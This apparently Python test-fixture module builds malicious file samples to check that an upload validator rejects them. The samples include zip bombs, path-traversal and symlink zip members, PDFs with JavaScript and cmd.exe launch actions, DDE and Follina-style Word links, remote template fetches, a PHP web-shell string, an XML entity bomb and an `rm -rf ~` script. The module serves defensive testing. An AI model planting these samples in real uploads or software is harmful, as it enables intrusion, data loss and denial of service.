"""What must not get in: (what it is made of, the reason that is given)."""

import io
import struct
import zipfile

from pypdf import PdfWriter
from pypdf.actions import JavaScript

from . import packing as p
from .good import sheet

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DOC = p.PARTS["docx"]


def locked_pdf() -> bytes:
    """A PDF with a password."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("hemmelig", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scripted_pdf() -> bytes:
    """A PDF with a script, as a library writes it."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_open_action(JavaScript("app.alert('hei')"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def attached_pdf() -> bytes:
    """A PDF with a file inside."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("vedlegg.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def bomb(megabytes: int) -> bytes:
    """A Word file that unpacks to a great deal."""
    return p.zipped(p.parts("docx", {"word/media/a.bin": b"\0" * (megabytes << 20)}))


def many_members(count: int) -> bytes:
    """A Word file of very many parts."""
    return p.zipped(p.parts("docx") | {f"word/x/{n}": b"" for n in range(count)})


def lying(declared: int) -> bytes:
    """A Word file where one part is much larger than it says."""
    raw = bytearray(p.zipped(p.parts("docx", {"word/media/a.bin": b"\0" * 3_000_000})))
    at = raw.rfind(b"word/media/a.bin") - 46
    struct.pack_into("<I", raw, at + 24, declared)
    return bytes(raw)


def overlapping() -> bytes:
    """A Word file where two names share the same bytes (as in a better zip bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in p.parts("docx", {"word/a.bin": b"a" * 999}).items():
            packed.writestr(name, content)
        first = packed.getinfo("word/a.bin")
        again = zipfile.ZipInfo("word/b.bin")
        for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(again, name, getattr(first, name))
        packed.filelist.append(again)
        packed.NameToInfo["word/b.bin"] = again
    return out.getvalue()


def locked_member() -> bytes:
    """A Word file with an encrypted part."""
    raw = bytearray(p.office("docx"))
    raw[6] |= 1
    at = raw.find(b"PK\x01\x02")
    raw[at + 8] |= 1
    return bytes(raw)


def named(name: str) -> bytes:
    """A Word file with a part of that name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for known, content in p.parts("docx").items():
            packed.writestr(known, content)
        info = zipfile.ZipInfo("x")
        info.filename = name
        packed.writestr(info, b"x")
    return out.getvalue()


def symlink() -> bytes:
    """A Word file with a part that points elsewhere."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for known, content in p.parts("docx").items():
            packed.writestr(known, content)
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        packed.writestr(info, "/etc/passwd")
    return out.getvalue()


def docx_with(*links, name: str = "word/_rels/document.xml.rels") -> bytes:
    """A Word file with relations."""
    return p.office("docx", {name: p.relations(*links)})


def huge_png() -> bytes:
    """A PNG that says it has very many points."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + p.chunk(b"IHDR", head) + p.chunk(b"IDAT", b"x") + p.chunk(b"IEND", b"")


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<a>&b;</a>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FAKE_ODT = p.odf("odt", {"content.xml": p.odf_content(before="<office:scripts><script:event-listener/></office:scripts>")})
DDE = p.word('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')
SPLIT_DDE = p.word(
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
)

BAD = {
    "tom.pdf": (lambda: b"", "empty"),
    "for stor.txt": (lambda: b"a" * 5_000_001, "too_large"),
    "stor.pdf": (lambda: p.pdf() + b" " * 25_000_000, "too_large"),
    "program.exe": (lambda: b"MZ\x90\0", "ending"),
    "arkiv.zip": (lambda: p.zipped({"a.txt": "a"}), "ending"),
    "tegning.svg": (lambda: SVG, "ending"),
    "side.html": (lambda: b"<html></html>", "ending"),
    "makro.docm": (lambda: p.office("docx"), "ending"),
    "uten ending": (lambda: b"hei", "ending"),
    ".txt": (lambda: b"hei", "ending"),
    "faktura.pdf.exe": (lambda: b"MZ", "ending"),
    "snudd\u202efdp.txt": (lambda: b"hei", "name"),
    "linje\nskift.txt": (lambda: b"hei", "name"),
    "con.txt": (lambda: b"hei", "name"),
    "LPT1.pdf": (lambda: p.pdf(), "name"),
    "program.pdf": (lambda: b"MZ\x90\0" + b"\0" * 500, "program"),
    "skript.txt": (lambda: b"#!/bin/sh\nrm -rf ~\n", "program"),
    "elf.csv": (lambda: b"\x7fELF" + b"\0" * 100, "program"),
    "bilde.pdf": (lambda: p.picture("PNG"), "mismatch"),
    "pdf.png": (lambda: p.pdf(), "mismatch"),
    "jpeg.png": (lambda: p.picture("JPEG"), "mismatch"),
    "svg.txt": (lambda: SVG, "mismatch"),
    "html.md": (lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><script>1</script>", "mismatch"),
    "php.txt": (lambda: b"<?php system($_GET['x']); ?>", "mismatch"),
    "rtf.txt": (lambda: b"{\\rtf1 hei}", "mismatch"),
    "ark.docx": (lambda: sheet(), "mismatch"),
    "brev.xlsx": (lambda: p.office("docx"), "mismatch"),
    "brev.odt": (lambda: p.office("docx"), "mismatch"),
    "odt.docx": (lambda: p.odf("odt"), "mismatch"),
    "ark.odt": (lambda: p.odf("ods"), "mismatch"),
    "mal.odt": (
        lambda: p.odf("odt", mimetype="application/vnd.oasis.opendocument.text-template"),
        "mismatch",
    ),
    "arkiv.docx": (lambda: p.zipped({"a.txt": "a"}), "mismatch"),
    "gammel.docx": (lambda: CFB, "old_office"),
    "låst.docx": (lambda: CFB + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "låst del.docx": (locked_member, "encrypted"),
    "låst.odt": (
        lambda: p.odf("odt", manifest="<manifest:encryption-data/>"),
        "encrypted",
    ),
    "låst.pdf": (locked_pdf, "encrypted"),
    "skript.pdf": (scripted_pdf, "script"),
    "skjult skript.pdf": (
        lambda: p.pdf(objects=("<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>",)),
        "script",
    ),
    "pakket skript.pdf": (
        lambda: p.pdf(objects=(p.object_stream(b"<< /S /JavaScript /JS (x) >>"),)),
        "script",
    ),
    "uvanlig pakket.pdf": (
        lambda: p.pdf(
            objects=(p.object_stream(b"x").replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"),)
        ),
        "pdf_odd",
    ),
    "skjult pakke.pdf": (
        lambda: p.pdf(objects=(p.object_stream(b"x").replace(b"/ObjStm", b"/Obj#53tm"),)),
        "pdf_odd",
    ),
    "starter program.pdf": (
        lambda: p.pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_action",
    ),
    "åpner nettside.pdf": (
        lambda: p.pdf("/OpenAction 6 0 R", ("<< /S /URI /URI (https://ondt.example) >>",)),
        "pdf_action",
    ),
    "sender skjema.pdf": (lambda: p.pdf("/AA << /O << /S /SubmitForm >> >>"), "pdf_action"),
    "xfa.pdf": (lambda: p.pdf("/AcroForm << /XFA (x) >>"), "pdf_action"),
    "vedlegg.pdf": (attached_pdf, "embedded"),
    "avkortet.pdf": (lambda: p.pdf()[:300], "damaged"),
    "bare hode.pdf": (lambda: b"%PDF-1.7\n" + b"x" * 500, "damaged"),
    "hale.pdf": (lambda: p.pdf() + b"noe mer", "damaged"),
    "pdf og arkiv.pdf": (lambda: p.pdf() + p.zipped({"a.class": "x"}), "polyglot"),
    "html i hodet.pdf": (lambda: p.pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>x\n", 1), "polyglot"),
    "bilde og arkiv.jpg": (lambda: p.picture("JPEG") + p.zipped({"a.jar": "x"}), "polyglot"),
    "bilde og arkiv.png": (lambda: p.picture("PNG") + p.zipped({"a.jar": "x"}), "polyglot"),
    "php.jpg": (lambda: p.picture("JPEG", comment=b"<?php phpinfo(); ?>"), "polyglot"),
    "kjempe.png": (huge_png, "too_many_pixels"),
    "avkortet.png": (lambda: p.picture("PNG")[:3000], "damaged"),
    "avkortet.jpg": (lambda: p.picture("JPEG")[:3000], "damaged"),
    "ødelagt.webp": (lambda: p.picture("WEBP")[:500], "damaged"),
    "makro.docx": (lambda: p.office("docx", {"word/vbaProject.bin": b"x"}), "macro"),
    "omdøpt.docx": (
        lambda: p.office("docx", {"[Content_Types].xml": p.types("docx", main=MACRO_MAIN)}),
        "macro",
    ),
    "xlm.xlsx": (
        lambda: p.office("xlsx", {"xl/macrosheets/sheet1.xml": "<m/>"}),
        "macro",
    ),
    "activex.docx": (lambda: p.office("docx", {"word/activeX/activeX1.xml": "<a/>"}), "macro"),
    "skript.odt": (lambda: FAKE_ODT, "macro"),
    "basic.ods": (lambda: p.odf("ods", {"Basic/Standard/Module1.xml": "<m/>"}), "macro"),
    "ole.docx": (lambda: p.office("docx", {"word/embeddings/oleObject1.bin": CFB}), "embedded"),
    "ole kobling.docx": (lambda: docx_with(("oleObject", "embeddings/x.bin", False)), "embedded"),
    "html inni.docx": (lambda: docx_with(("aFChunk", "afchunk.htm", False)), "embedded"),
    "exe inni.docx": (lambda: p.office("docx", {"word/media/image1.png": b"MZ" + b"x" * 99}), "embedded"),
    "mal utenfra.docx": (
        lambda: docx_with(
            ("attachedTemplate", "https://ondt.example/x.dotm", True),
            name="word/_rels/settings.xml.rels",
        ),
        "fetches",
    ),
    "bilde utenfra.docx": (lambda: docx_with(("image", "https://ondt.example/p.png", True)), "fetches"),
    "follina.docx": (
        lambda: docx_with(("hyperlink", "ms-msdt:/id PCWDiagnostic", True)),
        "odd_link",
    ),
    "unc.docx": (lambda: docx_with(("hyperlink", "\\\\ondt.example\\x", True)), "odd_link"),
    "skriptlenke.docx": (lambda: docx_with(("hyperlink", "javascript:alert(1)", True)), "odd_link"),
    "annen bok.xlsx": (
        lambda: p.office(
            "xlsx",
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": p.relations(
                    ("externalLinkPath", "file:///C:/bok.xlsx", True)
                )
            },
        ),
        "fetches",
    ),
    "dde.docx": (lambda: p.office("docx", {DOC: DDE}), "fetches"),
    "delt dde.docx": (lambda: p.office("docx", {DOC: SPLIT_DDE}), "fetches"),
    "bilde utenfra.odt": (
        lambda: p.odf(
            "odt", {"content.xml": p.odf_content('<draw:image xlink:href="http://ondt.example/x"/>')}
        ),
        "fetches",
    ),
    "makrolenke.odt": (
        lambda: p.odf(
            "odt",
            {"content.xml": p.odf_content('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')},
        ),
        "odd_link",
    ),
    "entiteter.docx": (lambda: p.office("docx", {DOC: LAUGHS}), "damaged"),
    "dyp.docx": (lambda: p.office("docx", {DOC: "<a>" * 5000 + "</a>" * 5000}), "damaged"),
    "bombe.docx": (lambda: bomb(160), "bomb"),
    "tett bombe.docx": (lambda: bomb(20), "bomb"),
    "mange deler.docx": (lambda: many_members(5_000), "bomb"),
    "hundre tusen deler.docx": (lambda: many_members(100_000), "bomb"),
    "lyver.docx": (lambda: lying(10), "bomb"),
    "lyver opp.docx": (lambda: lying(4_000_000), "damaged"),
    "overlapper.docx": (overlapping, "damaged"),
    "før.docx": (lambda: b"MZ" + p.office("docx"), "program"),
    "søppel før.docx": (lambda: b"GIF89a" + p.office("docx"), "mismatch"),
    "etter.docx": (lambda: p.office("docx") + b"x", "damaged"),
    "zip i zip.docx": (
        lambda: p.office("docx", {"word/media/a.bin": p.zipped({"b": "b"})}),
        "nested",
    ),
    "docx i docx i docx.docx": (
        lambda: p.office(
            "docx",
            {
                "word/embeddings/a.docx": p.office(
                    "docx", {"word/embeddings/b.docx": p.office("docx")}
                )
            },
        ),
        "nested",
    ),
    "makro i ark i brev.docx": (
        lambda: p.office(
            "docx", {"word/embeddings/a.xlsx": p.office("xlsx", {"xl/vbaProject.bin": b"x"})}
        ),
        "macro",
    ),
    "oppover.docx": (lambda: named("../../etc/cron.d/x"), "member_name"),
    "fra roten.docx": (lambda: named("/etc/passwd"), "member_name"),
    "windows.docx": (lambda: named("word\\..\\x.exe"), "member_name"),
    "disk.docx": (lambda: named("C:/x"), "member_name"),
    "snudd del.docx": (lambda: named("word/\u202ecod.exe"), "member_name"),
    "langt navn.docx": (lambda: named("word/" + "x" * 300), "member_name"),
    "reservert.docx": (lambda: named("word/aux.xml"), "member_name"),
    "peker.docx": (symlink, "member_name"),
    "binær.txt": (lambda: bytes(range(256)) * 10, "not_text"),
    "null.csv": (lambda: b"a;b\0;c\n", "not_text"),
    "ikke.json": (lambda: b"{'a': 1}", "not_json"),
    "dyp.json": (lambda: b"[" * 200_000 + b"]" * 200_000, "not_json"),
}
